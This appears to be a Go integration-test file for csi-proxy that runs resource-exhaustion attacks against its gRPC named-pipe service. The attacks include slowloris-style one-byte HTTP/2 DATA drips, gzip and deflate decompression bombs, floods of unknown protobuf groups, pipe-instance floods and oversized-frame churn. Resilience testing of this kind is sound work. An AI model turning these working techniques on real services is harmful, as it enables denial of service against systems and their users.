package main

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"context"
	"encoding/binary"
	"io"
	"net"
	"slices"
	"sync/atomic"
	"time"

	"csi-proxy.example/integration/drivers/steps"
	filesystem "github.com/kubernetes-csi/csi-proxy/client/api/filesystem/v1"
	"golang.org/x/net/http2"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/encoding"
	"google.golang.org/grpc/status"
)

// slowMkdir makes every Mkdir outlast the attack.
var slowMkdir = map[string]any{"operation": "filesystem.Mkdir", "latency_ms": 120000}

// costAttacks cost the attacker little and the service much.
var costAttacks = []attack{
	{name: "drip", about: "DATA of 16 KB whose payload comes in writes of one byte", short: true,
		run: again(openAnd(drip(200<<10, 16<<10, false)))},
	{name: "drip of last frames", about: "the same with END_STREAM",
		run: again(openAnd(drip(16<<10-5, 16<<10, true)))},
	{name: "drip of frames", about: "DATA of one byte, each frame in a write of its own",
		run: again(openAnd(drip(200<<10, 1, false)))},
	inflation(attack{name: "inflation by gzip", about: "995 KB that become 1 GB"}, "gzip", 1024),
	inflation(attack{name: "inflation by deflate", about: "995 KB that become 1 GB"}, "deflate", 1024),
	inflation(attack{name: "inflation of few bytes", about: "gzip, 190 KB that become 200 MB", short: true}, "gzip", 200),
	inflation(attack{name: "deflate of few bytes", about: "190 KB that become 200 MB", short: true}, "deflate", 200),
	{name: "unknown groups", about: "calls of 1 MB and of 250 KB that are empty groups of an unknown field", fault: slowMkdir, short: true,
		run: func(ctx context.Context, count *counters) {
			var turn atomic.Int64
			callers(ctx, count, "filesystem-v1", 8, 64, func(ctx context.Context, conn *grpc.ClientConn) error {
				request := &filesystem.MkdirRequest{Path: root + `\slow`}
				size := []int{1_000_000, 250_000}[turn.Add(1)%2]
				// Group field 2: its begin and its end.
				request.ProtoReflect().SetUnknown(bytes.Repeat([]byte{0x13, 0x14}, size/2))
				_, err := filesystem.NewFilesystemClient(conn).Mkdir(ctx, request)
				return err
			})
		}},
	{name: "instance flood", about: "4 processes dial and close three other pipes without pause; honest clients redial", processes: 4,
		seconds: 15, redials: true,
		run: func(ctx context.Context, count *counters) {
			each(ctx, 3, func(i int) {
				for ctx.Err() == nil {
					pipe := []string{"csi-proxy-smb-v1", "csi-proxy-iscsi-v1alpha2", "csi-proxy-system-v1alpha1"}[i]
					if r, err := dialPipe(ctx, count, pipe); err == nil {
						r.Close()
					}
				}
			})
		}},
	{name: "oversized churn", about: "8 threads: preface, SETTINGS and the header of DATA of 16 MB; then dial again", short: true,
		run: churn(func(r *raw) {
			r.begin()
			r.Write(frameHeader(1<<24-1, http2.FrameData, 0, 1))
			// Returns when the service ends the connection.
			io.Copy(io.Discard, r.Conn)
		})},
}

// drip makes calls whose message is sent in DATA frames of `frame` bytes: first a frame's header, then each
// byte in a write of its own. A frame of one byte is sent in one write. With end, frames carry END_STREAM.
func drip(message, frame int, end bool) func(r *raw) error {
	payload := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(message)), make([]byte, message)...)
	return func(r *raw) error {
		for {
			if err := r.headers(r.fields(pathExists), true, false); err != nil {
				return err
			}
			for part := range slices.Chunk(payload, frame) {
				var flags http2.Flags
				if end {
					flags = http2.FlagDataEndStream
				}
				r.out.Write(frameHeader(len(part), http2.FrameData, flags, r.stream))
				if frame == 1 {
					r.out.Write(part)
					part = nil
				}
				if err := r.out.Flush(); err != nil {
					return err
				}
				for i := range part {
					if _, err := r.Write(part[i : i+1]); err != nil {
						return err
					}
				}
			}
		}
	}
}

// churn runs eight threads that dial, call do and close.
func churn(do func(r *raw)) func(ctx context.Context, count *counters) {
	return func(ctx context.Context, count *counters) {
		each(ctx, 8, func(int) {
			for ctx.Err() == nil {
				if r, err := dial(ctx, count); err == nil {
					do(r)
					r.Close()
				}
			}
		})
	}
}

// counted is a connection that counts the bytes sent.
type counted struct {
	net.Conn
	count *counters
}

func (c counted) Write(bytes []byte) (int, error) {
	n, err := c.Conn.Write(bytes)
	c.count.bytes.Add(int64(n))
	return n, err
}

// callers makes calls of an API with grpc-go over some connections, atOnce at a time, and counts the answers.
func callers(ctx context.Context, count *counters, api string, connections, atOnce int,
	call func(ctx context.Context, conn *grpc.ClientConn) error) {
	dialer := func(ctx context.Context, path string) (net.Conn, error) {
		conn, err := steps.DialPipe(ctx, path)
		if err != nil {
			return nil, err
		}
		count.connections.Add(1)
		return counted{conn, count}, nil
	}
	var conns []*grpc.ClientConn
	for i := 0; i < connections; i++ {
		conn, err := connect(api, grpc.WithContextDialer(dialer))
		if err != nil {
			panic(err)
		}
		defer conn.Close()
		conns = append(conns, conn)
	}
	each(ctx, atOnce, func(i int) {
		for first := true; first || ctx.Err() == nil; first = false {
			if err := call(ctx, conns[i%len(conns)]); ctx.Err() == nil || status.Code(err) != codes.Canceled {
				count.answered(err)
			}
		}
	})
}

// bomb is a compressor for grpc-go that returns the same compressed zeros for every message.
type bomb struct {
	name  string
	bytes bytes.Buffer
}

func newBomb(name string, megabytes int) *bomb {
	b := &bomb{name: name}
	var out io.WriteCloser
	if name == "gzip" {
		out, _ = gzip.NewWriterLevel(&b.bytes, gzip.BestCompression)
	} else {
		out, _ = zlib.NewWriterLevel(&b.bytes, zlib.BestCompression)
	}
	for zeros := make([]byte, 1<<20); megabytes > 0; megabytes-- {
		out.Write(zeros)
	}
	out.Close()
	return b
}

func (b *bomb) Name() string                                  { return b.name }
func (b *bomb) Decompress(from io.Reader) (io.Reader, error)  { return from, nil }
func (b *bomb) Compress(to io.Writer) (io.WriteCloser, error) { return bombWriter{b, to}, nil }

type bombWriter struct {
	*bomb
	to io.Writer
}

func (w bombWriter) Write(message []byte) (int, error) { return len(message), nil }
func (w bombWriter) Close() error {
	_, err := w.to.Write(w.bomb.bytes.Bytes())
	return err
}

// inflation sends compressed zeros. The service must answer Unimplemented, because it accepts no compression.
func inflation(a attack, name string, megabytes int) attack {
	a.answer = codes.Unimplemented
	a.seconds = 10
	a.prepare = func() error {
		encoding.RegisterCompressor(newBomb(name, megabytes))
		return nil
	}
	a.run = func(ctx context.Context, count *counters) {
		callers(ctx, count, "filesystem-v1", 8, 8, func(ctx context.Context, conn *grpc.ClientConn) error {
			defer time.Sleep(time.Millisecond)
			// The call may outlast the attack, so that its answer is always received.
			limited, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			_, err := filesystem.NewFilesystemClient(conn).PathExists(limited, &filesystem.PathExistsRequest{Path: root},
				grpc.UseCompressor(name))
			return err
		})
	}
	return a
}
